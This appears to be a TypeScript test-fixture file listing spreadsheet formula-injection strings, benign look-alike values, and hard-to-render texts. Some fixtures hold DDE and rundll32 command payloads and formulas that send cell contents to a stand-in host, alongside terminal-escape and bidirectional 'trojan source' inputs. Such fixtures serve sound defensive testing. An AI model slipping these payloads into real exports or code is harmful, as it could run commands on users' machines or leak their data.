/** Cells that a spreadsheet program would run, or that look as if they would. */
export const formulaCells: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1)',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("http://evil.example","//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1+cmd|'/C calc'!A0",
  "－1+cmd|'/C calc'!A0",
  "＠SUM(1)",
  '=DDE("cmd";"/C calc";"x")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=IFERROR(WEBSERVICE(A1),0)",
  "=Sheet2!A1",
  "+A1",
  "@A1",
];

/** Cells that look the like, and are what they are. */
export const plainCells: readonly string[] = [
  "-5",
  "-5.25",
  "+49 30 901820",
  "1=1",
  "a=b",
  "-",
  "+",
  "2026-11-21",
  "-1,234.50",
];

/** Texts that are hard to show. */
export const hardTexts: Readonly<Record<string, () => Uint8Array | string>> = {
  "one line of a million characters": () => "x".repeat(1_000_000),
  "one line of words without end": () => "word ".repeat(150_000),
  "a hundred thousand empty lines": () => "\n".repeat(100_000),
  "bytes that are no UTF-8": () => new Uint8Array([0x61, 0xff, 0xfe, 0x62, 0x0a]),
  "a text cut in the middle of a character": () => new Uint8Array([0x61, 0xe2, 0x82]),
  "an overlong encoding of a slash": () => new Uint8Array([0x2e, 0x2e, 0xc0, 0xaf, 0x0a]),
  "surrogates in UTF-8": () => new Uint8Array([0xed, 0xa0, 0x80, 0x0a]),
  "UTF-16 with a mark": () => new Uint8Array([0xff, 0xfe, 0x61, 0x00, 0x0a, 0x00]),
  "a NUL in the middle": () => "one\0two\n",
  "escapes of a terminal": () => "\u001B[2J\u001B]0;owned\u0007\n",
  "directions that turn code around": () => "if (user != \u202E\u2066admin\u2069\u2066) {\n",
  "invisible characters between letters": () => "pass\u200Bword = pass\u200Dword\n",
  "line ends of every kind": () => "a\r\nb\rc\nd\u2028e\u0085f",
  "thousands of combining marks": () => `a${"\u0301".repeat(50_000)}\n`,
  nothing: () => "",
};
